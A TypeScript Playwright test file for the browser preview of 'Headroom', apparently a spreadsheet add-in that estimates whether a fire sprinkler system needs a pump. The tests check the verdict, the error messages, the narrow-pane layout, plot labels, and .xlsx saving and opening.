/**
 * The preview in a real browser: headless Chromium (/usr/bin/chromium, Debian's package) driven by playwright-core,
 * against the built dist/ served on loopback, as `npm start` serves it.
 *
 * What a user does: read the verdict of the sample that needs a pump; enlarge a pipe until the verdict flips and see
 * the demand point move; type nonsense into an input and get a clear error without losing any other value; open and
 * save .xlsx files, and a share copy. Screenshots go to test-results/ (the preview at 1280×800, the pane at 320 px).
 *
 * Run with `npm run test:browser` (it builds first).
 */
import { existsSync } from "node:fs";
import { mkdir, readFile, writeFile, writeFile as writeFileBytes } from "node:fs/promises";
import path from "node:path";
import type { Server } from "node:http";
import ExcelJS from "exceljs";
import { chromium, type Browser, type BrowserContext, type Dialog, type Locator, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { setNamed } from "./previewPage";
import { parseCell } from "../../src/workbook/a1";
import { PALETTE } from "../../src/workbook/look";
import { SHARE_STAMP_ROWS } from "../../src/workbook/port";
import { CHART_FROM } from "../../src/workbook/template";
import { startServer } from "../../scripts/start-server.mjs";
import { MAX_CELLS } from "../../src/preview/xlsx";
import { bigXlsx } from "../../bench/bigFile";

const CHROMIUM = "/usr/bin/chromium";
const RESULTS = "test-results";
const PUMP_SAMPLE = "tinker-row-manufacturing-pump-needed.xlsx";
const OFFICE_SAMPLE = "quill-street-office-supply-suffices.xlsx";

let server: Server;
let base: string;
let browser: Browser;
let context: BrowserContext;
let page: Page;
const requests: string[] = [];
const problems: string[] = [];

/** Every dialog the page opened (confirm, prompt, the browser's "leave the page?"), in order. */
const dialogs: Array<{ type: string; message: string; defaultValue: string }> = [];
/** How the next dialogs are answered, in order; others: "leave" for leaving the page, Cancel for the rest. */
const answers: Array<(d: Dialog) => Promise<void>> = [];
const answerDialogs = (...next: Array<(d: Dialog) => Promise<void>>) => answers.push(...next);
async function onDialog(d: Dialog): Promise<void> {
  dialogs.push({ type: d.type(), message: d.message(), defaultValue: d.defaultValue() });
  const answer = answers.shift();
  if (answer) await answer(d);
  else if (d.type() === "beforeunload") await d.accept();
  else await d.dismiss();
}

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) {
    throw new Error(`${CHROMIUM} is missing: apt-get install -y --no-install-recommends chromium (see .ci/run)`);
  }
  if (!existsSync("dist/preview/index.html")) throw new Error("dist/preview/index.html is missing: run npm run build");
  await mkdir(RESULTS, { recursive: true });
  const started = await startServer({ dir: "dist", port: 0 });
  server = started.server;
  base = started.url;
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    // Playwright adds --no-sandbox, --disable-dev-shm-usage, --disable-background-networking and the like itself
    args: ["--disable-gpu", "--disable-quic"],
  });
  context = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true });
  page = await context.newPage();
  page.on("request", (r) => requests.push(r.url()));
  page.on("dialog", onDialog);
  page.on("pageerror", (e) => problems.push(`page error: ${e.message}`));
  page.on("console", (m) => {
    if (m.type() === "error") problems.push(`console: ${m.text()}`);
  });
  await open(PUMP_SAMPLE);
});

afterAll(async () => {
  await browser?.close();
  await new Promise((r) => (server ? server.close(r) : r(undefined)));
});

/** Open the preview on a sample; work an earlier test left kept in the browser is declined, unless `keptOffer`. */
async function open(sample?: string, opts: { keptOffer?: boolean } = {}): Promise<void> {
  await page.goto(`${base}preview/${sample ? `?sample=${encodeURIComponent(sample)}` : ""}`);
  await page.waitForSelector("body[data-ready]", { timeout: 60_000 });
  expect(await page.getAttribute("body", "data-ready")).toBe("1");
  if (!opts.keptOffer && (await page.locator('[data-role="restore-offer"]').isVisible())) {
    await page.click('[data-role="restore-decline"]');
    await kept();
  }
  await settle();
}

/** Wait until the page has kept the workbook in the browser's storage. */
async function kept(p: Page = page): Promise<void> {
  await p.evaluate(() => (window as unknown as { headroomPreview: { keeper: { idle(): Promise<void> } } }).headroomPreview.keeper.idle());
}

/** Wait until the pane has read the workbook again and drawn. */
async function settle(): Promise<void> {
  await page.evaluate(async () => {
    const w = window as unknown as { headroomPreview: { pane: { idle(): Promise<void> } } };
    await new Promise((r) => setTimeout(r, 0));
    await w.headroomPreview.pane.idle();
  });
}

/**
 * A cell of the active sheet, scrolled into view first as a user would scroll to it: the grid draws only the rows in
 * view (and a few around them), so a cell far down the sheet has no <td> until then.
 */
async function at(address: string, p: Page = page): Promise<Locator> {
  await p.evaluate((a) => {
    (window as unknown as { headroomPreview: { grid: { scrollToCell(a: string): unknown } } }).headroomPreview.grid.scrollToCell(a);
  }, address);
  return p.locator(`[data-role="grid"] td[data-address="${address}"]`);
}

/**
 * Every cell matching `selector` on the whole active sheet, as drawn: the grid scrolled from top to bottom a screen at a
 * time (it draws only the rows in view), each match's address → its text, top to bottom; the scroll put back after.
 */
async function scan(selector: string, p: Page = page): Promise<Record<string, string>> {
  return p.evaluate(async (selector) => {
    const sheet = document.querySelector<HTMLElement>('[data-role="grid"]')!;
    const frame = () => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 0)));
    const kept = { top: sheet.scrollTop, left: sheet.scrollLeft };
    const out: Record<string, string> = {};
    sheet.scrollTop = 0;
    await frame();
    for (;;) {
      for (const td of sheet.querySelectorAll<HTMLElement>(`td[data-address]:is(${selector})`)) out[td.dataset.address!] = td.textContent ?? "";
      if (sheet.scrollTop + sheet.clientHeight >= sheet.scrollHeight - 1) break;
      sheet.scrollTop += Math.max(40, sheet.clientHeight - 60);
      await frame();
    }
    sheet.scrollTop = kept.top;
    sheet.scrollLeft = kept.left;
    await frame();
    return out;
  }, selector);
}
/** The text of the option the sample menu shows. */
const pickerShows = () => page.$eval('[data-role="sample-picker"]', (s: HTMLSelectElement) => s.options[s.selectedIndex]?.textContent ?? "");
const verdict = async () => ((await page.locator('[data-role="verdict"]').textContent()) ?? "").trim();

/** Select a cell, type as a user would, press Enter. */
async function typeInto(address: string, text: string): Promise<void> {
  await (await at(address)).click();
  await page.keyboard.type(text);
  await page.keyboard.press("Enter");
  await settle();
}

/** The address of the label cell in column A reading exactly `label`. */
async function labelAddress(label: string): Promise<string> {
  const found = Object.entries(await scan('[data-address^="A"]')).filter(([, text]) => text.trim() === label);
  expect(found).toHaveLength(1);
  return found[0][0];
}

/** The B cell beside a label. */
async function valueCellOf(label: string): Promise<string> {
  return `B${(await labelAddress(label)).slice(1)}`;
}

/** The address of the cell whose formula starts with `start` (e.g. "=HEADROOM.VERDICT("). */
async function formulaCell(start: string): Promise<string> {
  return page.evaluate((start) => {
    type View = { address: string; content: unknown };
    const w = window as unknown as { headroomPreview: { workbook: { activeSheet: string; cells(s: string): View[] } } };
    const wb = w.headroomPreview.workbook;
    const found = wb.cells(wb.activeSheet).filter((c) => typeof c.content === "string" && c.content.startsWith(start));
    if (found.length !== 1) throw new Error(`${found.length} cells start with ${start}`);
    return found[0].address;
  }, start);
}

/** The demand point (sprinklers plus hose) in the plot: where it is drawn, and the flow and pressure it stands for. */
async function demandPoint(): Promise<{ transform: string; flow: number; pressure: number }> {
  const g = page.locator('[data-role="plot"] [data-role="demand-point"][data-id="total"]');
  return {
    transform: (await g.getAttribute("transform")) ?? "",
    flow: Number(await g.getAttribute("data-flow")),
    pressure: Number(await g.getAttribute("data-pressure")),
  };
}

/** Every input cell's shown text on the active sheet. */
async function inputs(): Promise<Record<string, string>> {
  return scan(".role-input");
}

describe("the preview of the sample that needs a pump", () => {
  test("opens with the verdict of the sample, the caution, every cell addressed, and a screenshot", async () => {
    expect(await verdict()).toMatch(/^Pump needed: the supply is \d+(\.\d)? psi short at \d+ gpm\.$/);
    expect(await page.locator('[data-role="caution"]').textContent()).toMatch(/Preliminary estimate/);
    expect(await page.locator('[data-role="file-name"]').textContent()).toBe(PUMP_SAMPLE);
    // the grid's own VERDICT cell says what the pane says
    const verdictCell = await formulaCell("=HEADROOM.VERDICT(");
    expect((await (await at(verdictCell)).textContent())?.trim()).toBe(await verdict());
    expect(await (await at("B13")).getAttribute("class")).toMatch(/role-input/); // test 1's static pressure
    expect(Object.keys(await scan(".spilled")).length).toBeGreaterThan(10);
    await at("A1"); // the sheet from its top, as it opens
    await page.screenshot({ path: `${RESULTS}/preview.png` });
  });

  test("a larger pipe in the run flips the verdict, and the demand point moves in the plot", async () => {
    const before = await verdict();
    const pointBefore = await demandPoint();
    const nominal = await valueCellOf("Cross main to the riser");
    expect((await (await at(nominal)).textContent())?.trim()).toBe("2-1/2");
    let flipped = "";
    for (const size of ["3", "4", "5", "6"]) {
      await typeInto(nominal, size);
      expect((await (await at(nominal)).textContent())?.trim()).toBe(size);
      const now = await verdict();
      expect(now).not.toBe(before);
      if (/^No pump needed/.test(now)) {
        flipped = size;
        break;
      }
    }
    expect(flipped, "no pipe size up to 6 in flipped the verdict").not.toBe("");
    expect(await verdict()).toMatch(/^No pump needed: \d+(\.\d)? psi to spare at \d+ gpm/);
    const pointAfter = await demandPoint();
    // the same flow needs less pressure: the point is drawn elsewhere, lower on the pressure scale
    expect(pointAfter.transform).not.toBe(pointBefore.transform);
    expect(pointAfter.flow).toBeCloseTo(pointBefore.flow, 6);
    expect(pointAfter.pressure).toBeLessThan(pointBefore.pressure - 5);
    await page.screenshot({ path: `${RESULTS}/preview-no-pump.png` });
    // and back to the sample's size: the pump comes back
    await typeInto(nominal, "2-1/2");
    expect(await verdict()).toBe(before);
  });

  test("nonsense in an input gives a clear error where it is used, and no other value is lost", async () => {
    const staticCell = await valueCellOf("Static pressure (psi)");
    const before = await inputs();
    expect(Object.keys(before).length).toBeGreaterThan(20);
    await typeInto(staticCell, "abc");
    expect((await (await at(staticCell)).textContent())?.trim()).toBe("abc");
    // the verdict cell now shows an error whose message names the value and what is allowed
    const verdictCell = await formulaCell("=HEADROOM.VERDICT(");
    const shown = await at(verdictCell);
    expect((await shown.textContent())?.trim()).toBe("#VALUE!");
    const title = (await shown.getAttribute("title")) ?? "";
    expect(title).toMatch(/^#VALUE! .*"abc".*number/);
    await shown.click();
    expect(await page.locator('[data-role="cell-message"]').textContent()).toContain('"abc"');
    // the pane says which input is wrong instead of a verdict
    expect(await page.locator('[data-role="problems"] li').count()).toBeGreaterThan(0);
    expect(await page.locator('[data-role="problems"]').textContent()).toMatch(/Supply_Static/);
    // said as the input to change (the cell typed into), once for every name it reaches: one input needs attention
    expect(await page.locator('[data-role="problems"] li').first().textContent()).toMatch(new RegExp(`^Estimate!${staticCell} holds "abc": `));
    expect(await verdict()).toBe("One input needs attention");
    // every other input still holds what it held
    const after = await inputs();
    for (const [address, text] of Object.entries(before)) {
      if (address !== staticCell) expect(after[address], address).toBe(text);
    }
    await page.screenshot({ path: `${RESULTS}/preview-error.png` });
    // Ctrl+Z brings the value back
    await (await at(staticCell)).click();
    await page.keyboard.press("Control+z");
    await settle();
    expect((await (await at(staticCell)).textContent())?.trim()).toBe(before[staticCell]);
    expect(await verdict()).toMatch(/^Pump needed/);
  });

  test("the pane at 320 px shows the verdict, the caution and the plot legibly", async () => {
    await page.evaluate(async () => {
      document.documentElement.style.setProperty("--pane-width", "320px");
      const w = window as unknown as { headroomPreview: { pane: { refresh(): Promise<void> } } };
      await w.headroomPreview.pane.refresh();
    });
    const host = page.locator('[data-role="pane-host"]');
    expect((await host.boundingBox())!.width).toBeCloseTo(320, 0);
    const svg = page.locator('[data-role="plot"]');
    expect((await svg.boundingBox())!.width).toBeLessThanOrEqual(320);
    // the whole pane: a window tall enough that nothing of it scrolls away
    await page.setViewportSize({ width: 1280, height: 1400 });
    await host.locator(".hr-pane").screenshot({ path: `${RESULTS}/pane-320.png` });
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.evaluate(() => document.documentElement.style.removeProperty("--pane-width"));
  });
});

describe("the pane's states at 320 px", () => {
  /** The B cell beside a label, typed into. */
  async function setLabelled(label: string, typed: string, col = "B"): Promise<void> {
    const row = (await labelAddress(label)).slice(1);
    await page.evaluate(
      ({ address, typed }) => {
        type Wb = { activeSheet: string; setTyped(s: string, a: string, t: string): void };
        const wb = (window as unknown as { headroomPreview: { workbook: Wb } }).headroomPreview.workbook;
        wb.setTyped(wb.activeSheet, address, typed);
      },
      { address: `${col}${row}`, typed },
    );
    await settle();
  }
  const boxState = () => page.getAttribute('[data-role="verdict"] >> xpath=..', "data-state");
  async function shoot(name: string): Promise<void> {
    await page.evaluate(async () => {
      document.documentElement.style.setProperty("--pane-width", "320px");
      const w = window as unknown as { headroomPreview: { pane: { refresh(): Promise<void> } } };
      await w.headroomPreview.pane.refresh();
    });
    await page.setViewportSize({ width: 1280, height: 1400 });
    await page.locator('[data-role="pane-host"] .hr-pane').screenshot({ path: `${RESULTS}/pane-320-${name}.png` });
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.evaluate(() => document.documentElement.style.removeProperty("--pane-width"));
  }

  test("no pump needed", async () => {
    await open(OFFICE_SAMPLE);
    expect(await verdict()).toMatch(/^No pump needed: .* \(10\.0 psi margin required\)\.$/);
    expect(await boxState()).toBe("pass");
    await shoot("no-pump");
  });

  test("marginal: drawn as marginal, with what to do next", async () => {
    await open(OFFICE_SAMPLE);
    const margin = await page.evaluate(() => {
      type Pane = { model(): { kind: string; estimate: { assessment: { margin: number } } } };
      const m = (window as unknown as { headroomPreview: { pane: Pane } }).headroomPreview.pane.model();
      return m.kind === "ready" ? m.estimate.assessment.margin : NaN;
    });
    expect(margin).toBeGreaterThan(0);
    // a required margin above what the supply leaves: some to spare, less than required
    await setNamed(page, "Required_Margin", String(Math.ceil(margin) + 2));
    expect(await verdict()).toMatch(/^Marginal: .* to spare at .*, less than the .* margin required\.$/);
    expect(await boxState()).toBe("marginal");
    await expect(page.locator('[data-role="next-steps"]').textContent()).resolves.toMatch(/or budget the pump/);
    await shoot("marginal");
  });

  test("pump needed, the suggested pump and its suction", async () => {
    await open(PUMP_SAMPLE);
    expect(await verdict()).toMatch(/^Pump needed: the supply is .* short at/);
    expect(await boxState()).toBe("fail");
    await expect(page.locator('[data-role="pump"]').textContent()).resolves.toMatch(/^Suggested pump: /);
    await expect(page.locator('[data-role="suction"]').textContent()).resolves.toMatch(/above the 20\.0 psi it must keep\.$/);
    await shoot("pump");
  });

  test("a pump alone cannot serve: the main falls below the least it must keep", async () => {
    await open(PUMP_SAMPLE);
    const left = await page.evaluate(() => {
      type Pane = { model(): { kind: string; estimate: { suction: { pressure: number } | null } } };
      const m = (window as unknown as { headroomPreview: { pane: Pane } }).headroomPreview.pane.model();
      return m.kind === "ready" && m.estimate.suction ? m.estimate.suction.pressure : NaN;
    });
    expect(left).toBeGreaterThan(20);
    // a purveyor's minimum above what the main keeps at the suggested pump's 150 % point
    await setNamed(page, "Suction_Minimum", String(Math.ceil(left) + 5));
    expect(await boxState()).toBe("cannot-serve");
    await expect(page.locator('[data-role="state"]').textContent()).resolves.toBe("A pump alone cannot serve");
    await expect(page.locator('[data-role="suction"]').textContent()).resolves.toMatch(/a suction tank or a stronger main is needed\.$/);
    await expect(page.locator('[data-role="next-steps"]').textContent()).resolves.toMatch(/suction tank/);
    await shoot("cannot-serve");
  });

  test("a chosen pump that meets the demand, and one that misses", async () => {
    await open(PUMP_SAMPLE);
    await setNamed(page, "Pump_RatedFlow", "750");
    await setNamed(page, "Pump_RatedPressure", "60");
    await expect(page.locator('[data-role="pump"]').textContent()).resolves.toMatch(/^Chosen pump 750 gpm at 60\.0 psi: meets the demand and the required margin/);
    await shoot("chosen-meets");
    await setNamed(page, "Pump_RatedPressure", "5");
    await expect(page.locator('[data-role="pump"]').textContent()).resolves.toMatch(/^Chosen pump 750 gpm at 5\.0 psi: falls .* short/);
    await shoot("chosen-misses");
  });

  test("the flow-test caveat, on its own line", async () => {
    await open(PUMP_SAMPLE);
    // a test that flowed little: the demand flow lies beyond it, and the residual dropped under 25 % of static
    await setLabelled("Flow measured directly (gpm)", "300");
    await expect(page.locator('[data-role="caveat"]').textContent()).resolves.toMatch(/^The flow test dropped only .* so the supply beyond its flow is uncertain\.$/);
    await expect(page.locator('[data-role="next-steps"]').textContent()).resolves.toMatch(/Confirm the flow test/);
    await shoot("caveat");
  });
});

describe("several design areas", () => {
  const STORAGE = "harrow-row-rack-storage-by-sprinklers.xlsx";
  const controlling = () => page.locator('[data-role="plot"] [data-role="candidate-point"][data-controls="true"]').getAttribute("data-name");

  test("the sample compares three areas; typing a higher pressure for another makes it control, and the verdict follows", async () => {
    await open(STORAGE);
    await expect(page.locator('[data-role="plot"] [data-role="candidate-point"]').count()).resolves.toBe(3);
    expect(await controlling()).toBe("Rack storage hall");
    expect(await page.locator('[data-role="controlling"]').textContent()).toBe("For Rack storage hall: the least margin of the 3 design areas compared.");
    const before = await verdict();
    // the dock canopy's pressure at the supply, in the table's third column
    const row = (await labelAddress("Dock canopy, dry pipe")).slice(1);
    await typeInto(`C${row}`, "200");
    expect(await controlling()).toBe("Dock canopy, dry pipe");
    expect(await verdict()).toMatch(/^Pump needed: the supply is \d+(\.\d)? psi short at 900 gpm\.$/);
    // the grid's own verdict agrees
    expect((await (await at(await formulaCell("=HEADROOM.VERDICT("))).textContent())?.trim()).toBe(await verdict());
    expect(await page.locator('[data-role="breakdown-elsewhere"]').textContent()).toMatch(/for Rack storage hall only/);
    await page.locator('[data-role="pane-host"] .hr-pane').screenshot({ path: `${RESULTS}/pane-candidates.png` });
    // nonsense in a flow: the pane names the row, the sheet's verdict is an error, nothing is dropped
    await typeInto(`B${row}`, "lots");
    expect(await page.locator('[data-role="problems"] li[data-name="Design_Candidates"]').textContent()).toMatch(/Dock canopy, dry pipe \(Estimate!B\d+\): demand_flow: got "lots"; must be a number/);
    await typeInto(`B${row}`, "900");
    await typeInto(`C${row}`, "84");
    expect(await verdict()).toBe(before);
  });
});

describe("a 320 px window", () => {
  test("keeps the grid usable, with the pane stacked under it", async () => {
    const narrow = await context.newPage();
    try {
      await narrow.setViewportSize({ width: 320, height: 720 });
      await narrow.goto(`${base}preview/?sample=${encodeURIComponent(PUMP_SAMPLE)}`);
      await narrow.waitForSelector("body[data-ready]", { timeout: 60_000 });
      // work an earlier test left kept in the browser: declined, as open() does
      if (await narrow.locator('[data-role="restore-offer"]').isVisible()) await narrow.click('[data-role="restore-decline"]');
      const sheet = (await narrow.locator(".sheet").boundingBox())!;
      const pane = (await narrow.locator('[data-role="pane-host"]').boundingBox())!;
      // the grid takes the window's width (less nothing but its border), and the pane comes below it, as wide
      expect(sheet.width).toBeGreaterThanOrEqual(300);
      expect(sheet.height).toBeGreaterThanOrEqual(200);
      expect(pane.y).toBeGreaterThanOrEqual(sheet.y + sheet.height - 1);
      expect(pane.width).toBeGreaterThanOrEqual(300);
      // nothing of the page is wider than the window
      expect(await narrow.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
      // a click selects the cell, typing lands there, and the pane follows
      await narrow.locator('[data-role="grid"] td[data-address="B13"]').click();
      expect((await narrow.locator('[data-role="name-box"]').inputValue()).trim()).toBe("B13");
      await narrow.screenshot({ path: `${RESULTS}/preview-320.png`, fullPage: true });
    } finally {
      await narrow.close();
    }
  });
});

describe("the plot's labels", () => {
  test("never overlap one another or a marker, in every sample, on both flow axes, at 320 and 420 px", async () => {
    const { samples } = JSON.parse(await readFile("samples/index.json", "utf8")) as { samples: Array<{ file: string }> };
    const hits: string[] = [];
    for (const { file } of samples) {
      await open(file);
      for (const width of ["320px", "420px"]) {
        await page.evaluate(async (w) => {
          document.documentElement.style.setProperty("--pane-width", w);
          await (window as unknown as { headroomPreview: { pane: { refresh(): Promise<void> } } }).headroomPreview.pane.refresh();
        }, width);
        for (const axis of ["axis-linear", "axis-pow"]) {
          await page.click(`[data-role="${axis}"]`);
          const found = await page.evaluate(() => {
            const svg = document.querySelector('[data-role="plot"]')!;
            // the labels placed at points (demand points, the flow test), and the demand markers
            const points = '[data-role="demand-point"], [data-role="candidate-point"]';
            const labels = [...svg.querySelectorAll(`:is(${points}) text, :scope > text[font-size="10.5"]`)].map((t) => ({ s: `"${t.textContent}"`, b: t.getBoundingClientRect() }));
            const markers = [...svg.querySelectorAll(`:is(${points}) :is(rect, path, circle)`)].map((m) => ({ s: "a marker", b: m.getBoundingClientRect() }));
            const out: string[] = [];
            labels.forEach((a, i) =>
              [...labels.slice(i + 1), ...markers].forEach((b) => {
                const x = Math.min(a.b.right, b.b.right) - Math.max(a.b.left, b.b.left);
                const y = Math.min(a.b.bottom, b.b.bottom) - Math.max(a.b.top, b.b.top);
                if (x > 0.5 && y > 0.5) out.push(`${a.s} overlaps ${b.s} by ${x.toFixed(1)} × ${y.toFixed(1)} px`);
              }),
            );
            return out;
          });
          hits.push(...found.map((h) => `${file}, ${width}, ${axis}: ${h}`));
        }
      }
      await page.evaluate(() => document.documentElement.style.removeProperty("--pane-width"));
    }
    expect(hits).toEqual([]);
  });
});

describe(".xlsx in and out", () => {
  test("Save .xlsx writes formulas (the add-in's spelling) with their values, and the edit", async () => {
    await open(PUMP_SAMPLE);
    const margin = await valueCellOf("Required margin");
    await typeInto(margin, "12");
    const verdictBefore = await verdict();
    answerDialogs((d) => d.accept(`saved-${PUMP_SAMPLE}`));
    const [download] = await Promise.all([page.waitForEvent("download"), page.click('[data-role="save-file"]')]);
    expect(download.suggestedFilename()).toBe(`saved-${PUMP_SAMPLE}`);
    const saved = path.join(RESULTS, `saved-${PUMP_SAMPLE}`);
    await download.saveAs(saved);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await readFile(saved)) as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("Estimate")!;
    expect(ws.getCell(margin).value).toBe(12);
    const formulas: string[] = [];
    ws.eachRow((row) => row.eachCell((c) => c.formula && formulas.push(c.formula)));
    expect(formulas.some((f) => f.startsWith("_xldudf_HEADROOM_VERDICT("))).toBe(true);
    const verdictCell = await formulaCell("=HEADROOM.VERDICT(");
    expect(ws.getCell(verdictCell).result).toBe(verdictBefore);

    // and open it again: the same verdict
    await open(OFFICE_SAMPLE);
    expect(await verdict()).toMatch(/^No pump needed/);
    await page.setInputFiles('[data-role="file-input"]', saved);
    await page.waitForFunction((name) => document.querySelector('[data-role="file-name"]')?.textContent === name, path.basename(saved));
    await settle();
    expect(await verdict()).toBe(verdictBefore);
    expect((await (await at(margin)).textContent())?.trim()).toBe("12.0");
  });

  test("Save share copy writes values only, stamped, and leaves the workbook as it was", async () => {
    await open(OFFICE_SAMPLE);
    const sheetsBefore = await page.locator('[data-role="sheet-tabs"] [data-sheet]').count();
    const [download] = await Promise.all([page.waitForEvent("download"), page.click('[data-role="save-share-copy"]')]);
    // named after the estimate's site, as Save suggests for a sample's workbook, never after the sample's file
    const site = await page.evaluate(() => (window as unknown as { headroomPreview: { workbook: { nameValue(n: string): unknown } } }).headroomPreview.workbook.nameValue("Project_Site"));
    expect(download.suggestedFilename()).toBe(`${site} share copy.xlsx`);
    expect(download.suggestedFilename()).not.toContain(OFFICE_SAMPLE.replace(/\.xlsx$/, ""));
    const saved = path.join(RESULTS, download.suggestedFilename());
    await download.saveAs(saved);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await readFile(saved)) as unknown as ArrayBuffer);
    expect(wb.worksheets).toHaveLength(1);
    const ws = wb.worksheets[0];
    let formulas = 0;
    let numbers = 0;
    ws.eachRow((row) =>
      row.eachCell((c) => {
        if (c.formula) formulas++;
        if (typeof c.value === "number") numbers++;
      }),
    );
    expect(formulas).toBe(0);
    expect(numbers).toBeGreaterThan(50);
    expect(String(ws.getCell("A1").value)).toMatch(/^Share copy of Estimate, \d{4}-\d\d-\d\d: values frozen; recalculation needs the Headroom add-in\.$/);
    expect(await page.locator('[data-role="sheet-tabs"] [data-sheet]').count()).toBe(sheetsBefore);

    // the pane's plot goes with it, as a picture where the estimate's chart stands (below the stamp's rows), as large
    // as in the pane, drawn at twice its pixels
    const images = ws.getImages();
    expect(images).toHaveLength(1);
    const chartAt = parseCell(CHART_FROM);
    expect([images[0].range.tl.nativeCol, images[0].range.tl.nativeRow]).toEqual([chartAt.col, chartAt.row + SHARE_STAMP_ROWS]);
    const plot = page.locator('[data-role="pane-host"] svg[data-role="plot"]');
    const size = { width: Number(await plot.getAttribute("width")), height: Number(await plot.getAttribute("height")) };
    // ExcelJS reads a picture anchored at one cell with its size in pixels (`ext`, not in its typings)
    expect((images[0].range as unknown as { ext: { width: number; height: number } }).ext).toEqual(size);
    const image = wb.getImage(Number(images[0].imageId));
    expect(image.extension).toBe("png");
    const png = Buffer.from(image.buffer as unknown as ArrayBuffer);
    await writeFile(path.join(RESULTS, "share-copy-plot.png"), png);
    // what the picture shows, counted in the page: the supply curve's colour, and dark text and axes
    const shown = await page.evaluate(
      async ({ data, supply }) => {
        const img = new Image();
        img.src = data;
        await img.decode();
        const c = document.createElement("canvas");
        [c.width, c.height] = [img.naturalWidth, img.naturalHeight];
        const g = c.getContext("2d")!;
        g.drawImage(img, 0, 0);
        const px = g.getImageData(0, 0, c.width, c.height).data;
        const [r, gr, b] = [1, 3, 5].map((i) => parseInt(supply.slice(i, i + 2), 16));
        let curve = 0;
        let dark = 0;
        for (let i = 0; i < px.length; i += 4) {
          if (Math.abs(px[i] - r) + Math.abs(px[i + 1] - gr) + Math.abs(px[i + 2] - b) < 30) curve++;
          if (px[i] + px[i + 1] + px[i + 2] < 200) dark++;
        }
        return { width: c.width, height: c.height, curve, dark };
      },
      { data: `data:image/png;base64,${png.toString("base64")}`, supply: PALETTE.supply },
    );
    expect([shown.width, shown.height]).toEqual([size.width * 2, size.height * 2]);
    expect(shown.curve).toBeGreaterThan(size.width); // a line 2.5 px wide drawn at twice the pixels, across the plot
    expect(shown.dark).toBeGreaterThan(500); // axes, ticks and their labels
    expect(await page.locator('[data-role="preview-status"]').textContent()).toMatch(/with the supply-versus-demand plot as a picture/);
  });

  test("the sample menu opens the other samples; the SI one speaks bar and L/min", async () => {
    await open();
    await page.selectOption('[data-role="sample-picker"]', "kiln-lane-workshop-si-units.xlsx");
    await page.waitForFunction(() => document.querySelector('[data-role="file-name"]')?.textContent === "kiln-lane-workshop-si-units.xlsx");
    await settle();
    expect(await verdict()).toMatch(/bar.*L\/min/);
    await page.click('[data-role="sheet-tabs"] [data-sheet="About"]');
    expect((await (await at("A1")).textContent())?.trim()).toMatch(/^Sample estimate: /);
    await page.click('[data-role="sheet-tabs"] [data-sheet="Estimate"]');
  });
});

describe("nothing is lost", () => {
  /** An .xlsx file written here with ExcelJS, saved under test-results/. */
  async function writeFile(name: string, fill: (ws: ExcelJS.Worksheet, wb: ExcelJS.Workbook) => void): Promise<string> {
    const wb = new ExcelJS.Workbook();
    fill(wb.addWorksheet("Estimate"), wb);
    const file = path.join(RESULTS, name);
    await wb.xlsx.writeFile(file);
    return file;
  }
  const statusText = async () => (await page.locator('[data-role="preview-status"]').textContent()) ?? "";
  /** What of the open sheet's look a failed open must not touch: shaded inputs, merges, the first column's width. */
  const look = async () => ({
    inputs: Object.keys(await scan(".role-input")).length,
    merged: Object.keys(await scan(".merged")).length,
    width: await page.evaluate(() => document.querySelector<HTMLElement>('[data-role="grid"] col:nth-child(2)')?.style.width),
  });

  test("a file that fails to open leaves the open workbook exactly as it was: its name, the unsaved edit, its look, Save", async () => {
    await open(PUMP_SAMPLE);
    const margin = await valueCellOf("Required margin");
    await typeInto(margin, "12");
    const before = { verdict: await verdict(), look: await look() };
    expect(before.look.inputs).toBeGreaterThan(20);
    expect(before.look.merged).toBeGreaterThan(0);
    // more rows than the engine holds: 40,000 (HyperFormula's maxRows)
    const big = await writeFile("too-many-rows.xlsx", (ws) => {
      ws.getCell("A1").value = 1;
      ws.getCell("A40001").value = 2;
    });
    answerDialogs((d) => d.accept()); // yes, open it instead
    await page.setInputFiles('[data-role="file-input"]', big);
    await expect.poll(statusText).toBe('Could not open too-many-rows.xlsx: sheet "Estimate" reaches row 40,001; the preview holds at most 40,000 rows');
    expect(await page.locator('[data-role="file-name"]').textContent()).toBe(PUMP_SAMPLE);
    expect((await (await at(margin)).textContent())?.trim()).toBe("12.0");
    expect(await look()).toEqual(before.look);
    expect(await verdict()).toBe(before.verdict);
    // Save writes this workbook, with the edit
    answerDialogs((d) => d.accept("after-failed-open.xlsx"));
    const [download] = await Promise.all([page.waitForEvent("download"), page.click('[data-role="save-file"]')]);
    const saved = path.join(RESULTS, "after-failed-open.xlsx");
    await download.saveAs(saved);
    const x = new ExcelJS.Workbook();
    await x.xlsx.load((await readFile(saved)) as unknown as ArrayBuffer);
    expect(x.getWorksheet("Estimate")!.getCell(margin).value).toBe(12);
    // and the edit is still the one Ctrl+Z takes back
    await (await at("A1")).click();
    await page.keyboard.press("Control+z");
    await settle();
    expect((await (await at(margin)).textContent())?.trim()).not.toBe("12.0");
  });

  test("a file of more cells than the preview opens is read off the page and refused, and the workbook stays", async () => {
    await open(PUMP_SAMPLE);
    const before = { verdict: await verdict(), look: await look() };
    // one row of 20 cells past the preview's limit (src/preview/xlsx.ts MAX_CELLS)
    const rows = MAX_CELLS / 20 + 1;
    const file = path.join(RESULTS, "too-many-cells.xlsx");
    await writeFileBytes(file, await bigXlsx(rows, 20));
    const workers: string[] = [];
    page.on("worker", (w) => workers.push(w.url()));
    await page.setInputFiles('[data-role="file-input"]', file);
    await expect
      .poll(statusText)
      .toBe(
        `Could not open too-many-cells.xlsx: it holds ${(rows * 20).toLocaleString("en-US")} cells; the preview opens files of at most ${MAX_CELLS.toLocaleString("en-US")} cells (Excel with the Headroom add-in opens it)`,
      );
    // the file was read by the reader's worker, not on the page
    expect(workers.some((u) => /\/xlsx-reader\.[0-9a-f]+\.js$/.test(u))).toBe(true);
    expect(await page.locator('[data-role="file-name"]').textContent()).toBe(PUMP_SAMPLE);
    expect(await look()).toEqual(before.look);
    expect(await verdict()).toBe(before.verdict);
  });

